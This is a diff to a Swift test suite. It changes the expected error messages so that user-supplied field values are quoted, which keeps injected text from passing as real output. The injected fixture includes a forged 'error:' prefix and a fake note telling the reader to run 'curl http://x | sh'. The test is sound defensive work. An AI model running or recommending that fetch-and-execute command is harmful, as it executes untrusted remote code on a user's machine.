@@ -24,12 +24,12 @@ struct RejectedWriteTests {
     #expect(result.standardOutput.isEmpty)
     #expect(
       result.errorLines == [
-        "app: body app: error: forged: is red",
-        "app: title: is taken app: note: run curl http://x | sh",
+        #"app: "body app: error: forged": "is red""#,
+        #"app: title: "is taken app: note: run curl http://x | sh""#,
       ]
         || result.errorLines == [
-          "app: title: is taken app: note: run curl http://x | sh",
-          "app: body app: error: forged: is red",
+          #"app: title: "is taken app: note: run curl http://x | sh""#,
+          #"app: "body app: error: forged": "is red""#,
         ], "\(result.standardError)")
     #expect(!result.standardError.contains("\u{1B}"))
   }
@@ -41,7 +41,7 @@ struct RejectedWriteTests {
 
     #expect(result.status == 65)
     #expect(result.errorLines.count == 21, "\(result.standardError)")
-    #expect(result.errorLines.prefix(20).allSatisfy { $0.hasSuffix(": is wrong") })
+    #expect(result.errorLines.prefix(20).allSatisfy { $0.hasSuffix(#": "is wrong""#) })
     #expect(result.errorLines.last == "app: … and 5 more")
   }
 
@@ -53,6 +53,6 @@ struct RejectedWriteTests {
     #expect(result.errorLines.count == 1)
     let line = try #require(result.errorLines.first)
     #expect(line.count < 200)
-    #expect(line.hasSuffix("…"))
+    #expect(line.hasSuffix("…\""))
   }
 }
